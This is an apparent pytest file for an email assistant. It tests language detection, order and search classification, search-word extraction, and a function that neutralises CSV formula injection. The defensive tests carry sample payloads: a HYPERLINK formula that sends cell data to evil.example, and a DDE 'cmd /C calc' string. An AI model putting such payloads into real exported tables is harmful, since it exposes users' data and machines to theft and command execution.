"""What the agents say themselves: both languages whole, and no Czech line that ends in a preposition.

Tables that a spreadsheet opens: nothing in them is computed, and nothing else changes.
"""

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.agent.agents.assistant.ask_model import plain_table
from app.agent.agents.assistant.search import asks_for_more, asks_to_change, in_czech, search_words


@pytest.mark.parametrize(
    ("text", "czech"),
    [
        ("Najdi fakturu", True),
        ("Posli Alene report", True),
        ("Kdy přijde objednávka?", True),
        ("Find the invoice", False),
        ("invoice 4411", False),
        ("Show me mail from Petr Novák", False),
        ("Send the report to Ann", False),
    ],
)
def test_the_language_of_a_short_request_is_that_of_its_order(text: str, czech: bool) -> None:
    assert in_czech(text) is czech


@pytest.mark.parametrize(
    ("text", "more"),
    [
        ("Send Ann the report", True),
        ("Find the report and send it to Ann", True),
        ("Please reply to Bob", True),
        ("Najdi fakturu a pošli ji Aleně", True),
        ("Prosím odpověz Petrovi", True),
        ("Find Ann's answer", False),
        ("Find the draft from Ann", False),
        ("Kdo mi poslal fakturu?", False),
        ("Antworte Ann, dass Samstag passt", True),
        ("Finde die Antwort von Ann", False),
    ],
)
def test_orders_are_told_from_searches(text: str, more: bool) -> None:
    assert asks_for_more(text) is more


@pytest.mark.parametrize(
    ("text", "changes"),
    [
        ("Delete all mail from Bob", True),
        ("Find the newsletters and archive them", True),
        ("Can you unsubscribe me from Bike World?", True),
        ("Undo what you did", True),
        ("Smaž všechny e-maily od Boba", True),
        ("Lösche alle E-Mails von Bob", True),
        ("Who ordered the label printer?", False),
        ("Which mail did Bob archive?", False),
    ],
)
def test_orders_to_change_mail(text: str, changes: bool) -> None:
    assert asks_to_change(text) is changes


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("Find the mail from ann@partner.org about “order 4411”!", "ann@partner.org order 4411"),
        ("Kdy mi přijde objednávka od Aleny?", "přijde objednávka Aleny"),
        ("Search your mail for: invoice Ann", "invoice Ann"),
        ("which invoices came this month?", "invoices"),
        ("Delete all mail from Bob", "Bob"),
        ("Smaž všechny e-maily od Boba", "Boba"),
        ("Lösche alle E-Mails von Bob", "Bob"),
        ("Finde die Rechnung von Ann", "Rechnung Ann"),
        ("Where is the label printer?", "label printer"),
    ],
)
def test_the_words_of_a_search_are_those_that_tell(text: str, words: str) -> None:
    assert search_words(text) == words


CELLS = st.text(st.characters(exclude_categories=["C", "Z"]), max_size=12)


@pytest.mark.parametrize(
    ("content", "plain"),
    [
        ("a,b\n1,2\n", "a,b\n1,2\n"),
        ('a,b\n=HYPERLINK("https://evil.example/?"&A1),2\n', 'a,b\n"\'=HYPERLINK(""https://evil.example/?""&A1)",2\n'),
        ("a;b\n1;@SUM(A1)\n", "a;b\n1;'@SUM(A1)\n"),
        ("a\tb\n-5,5\t+420 777 123 456\n", "a\tb\n-5,5\t+420 777 123 456\n"),
        ("a,b\n-12 %,+cmd|' /C calc'!A0\n", "a,b\n-12 %,'+cmd|' /C calc'!A0\n"),
        ("a,b\n-1+A2, =1\n", "a,b\n'-1+A2,' =1\n"),
    ],
)
def test_formulas_become_text(content: str, plain: str) -> None:
    assert plain_table(content) == plain


@given(st.lists(st.lists(CELLS, min_size=2, max_size=4), min_size=1, max_size=6))
def test_no_cell_begins_a_formula(rows: list[list[str]]) -> None:
    rows = [["a", "b", "c"], *rows]
    content = "\n".join(",".join(f'"{one.replace(chr(34), chr(34) * 2)}"' for one in row) for row in rows)
    found = list(csv.reader(plain_table(content).splitlines()))
    assert [len(one) for one in found] == [len(one) for one in rows]
    assert not any(cell.startswith(("=", "@")) for row in found for cell in row)
